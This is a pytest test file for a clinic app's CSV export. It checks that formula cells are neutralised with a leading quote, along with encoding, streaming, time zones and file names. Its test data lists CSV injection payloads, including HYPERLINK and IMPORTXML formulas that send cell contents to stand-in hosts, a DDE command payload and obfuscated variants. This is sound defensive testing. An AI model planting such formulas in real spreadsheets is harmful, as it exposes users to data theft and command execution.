"""CSV a spreadsheet opens safely (issue 22, point 1): formulas defused per OWASP's
CSV injection guidance, every other value kept exactly, UTF-8 with a BOM."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from zoneinfo import ZoneInfo

import pytest

from followup.exports.sheet import BOM, csv_chunks, filename, local_time, safe_cell

NEW_YORK = ZoneInfo("America/New_York")
# What a spreadsheet would run, or a tab / carriage return hiding something.
FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1-2",
    "-2+3",
    "-1",
    "@SUM(A1:A9)",
    "@",
    "=",
    "\t=1+1",
    "\r=1+1",
    "\tjust a tab",
    "\ufeff=1",  # invisible characters do not hide one
    "\u200b\u200d+1",
    "\uff1d1+1",  # full-width equals
    "\uff0bcall",
    "\uff0d5",
    "\uff20SUM(A1)",
    '=IMPORTXML(CONCAT("http://x.example/?", A1), "//a")',
    "=\n1+1",
    # Blanks before it do not hide one either: a spreadsheet that trims cells reads it.
    " =1+1",
    '   =HYPERLINK("http://evil.example","pain 2")',
    "   +1+cmd",
    "\u00a0=1+1",  # a no-break space
    "\n=1+1",
    "\r\n@SUM(A1)",
    "\u3000\uff1d1+1",  # an ideographic space, then a full-width equals
]
# Text that is no formula: written exactly as it is.
PLAIN = [
    "José Núñez",
    "Ångström, Zoë",
    "李小龙",
    "dolor 7/10 😖",
    'she said "call me"',
    "line one\nline two",
    "line one\r\nline two",
    "a,b;c",
    "' already quoted",
    " 1=1",  # blanks before text that is no formula
    "1=1",
    "a-2+3",
    "mail@example.com",
    "",
    "\\",
    "\u202egnp.exe",  # right-to-left override stays text
]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_formula_is_written_after_a_single_quote(value: str) -> None:
    assert safe_cell(value) == "'" + value
    assert read_back(value) == "'" + value


@pytest.mark.parametrize("value", PLAIN)
def test_other_text_is_written_exactly(value: str) -> None:
    assert safe_cell(value) == value
    assert read_back(value) == value


def test_numbers_blanks_and_yes_no_are_values_not_text() -> None:
    assert [safe_cell(v) for v in (3, -2, 1.5, None, True, False)] == [3, -2, 1.5, "", "yes", "no"]


def test_the_document_is_utf8_with_a_bom_every_cell_quoted_and_streamed_in_chunks() -> None:
    rows = [[n, f"=row {n}", "Núñez"] for n in range(1201)]
    chunks = list(csv_chunks(["n", "@text", "name"], rows))
    assert len(chunks) == 3  # 500 rows, 500 rows, the rest
    document = "".join(chunks)
    assert document.startswith(BOM + '"n","\'@text","name"\r\n')
    assert '"7","\'=row 7","Núñez"\r\n' in document
    parsed = list(csv.reader(io.StringIO(document.removeprefix(BOM))))
    assert len(parsed) == 1202 and parsed[-1] == ["1200", "'=row 1200", "Núñez"]
    assert document.encode("utf-8").startswith(b"\xef\xbb\xbf")


def test_times_are_on_the_clinics_clock_with_their_zone() -> None:
    evening = datetime(2026, 12, 2, 1, 30, tzinfo=UTC)  # 8:30 PM the day before in New York
    summer = datetime(2026, 7, 1, 16, 0, tzinfo=UTC)
    assert local_time(evening, NEW_YORK) == "2026-12-01 20:30 EST"
    assert local_time(summer, NEW_YORK) == "2026-07-01 12:00 EDT"
    assert local_time(None, NEW_YORK) == ""


def test_a_file_name_is_the_list_and_the_day_in_safe_characters() -> None:
    assert filename("patients", date(2026, 12, 1)) == "patients-2026-12-01.csv"
    assert filename('campaign Flu "shots"/2026', date(2026, 12, 1)) == (
        "campaign-flu-shots-2026-2026-12-01.csv"
    )
    assert filename("½ ¾", date(2026, 12, 1)) == "export-2026-12-01.csv"


def read_back(value: str) -> str:
    """The value as a CSV reader gets it back from the document."""
    document = "".join(csv_chunks(["value"], [[value]])).removeprefix(BOM)
    [_, [cell]] = list(csv.reader(io.StringIO(document, newline="")))
    return cell
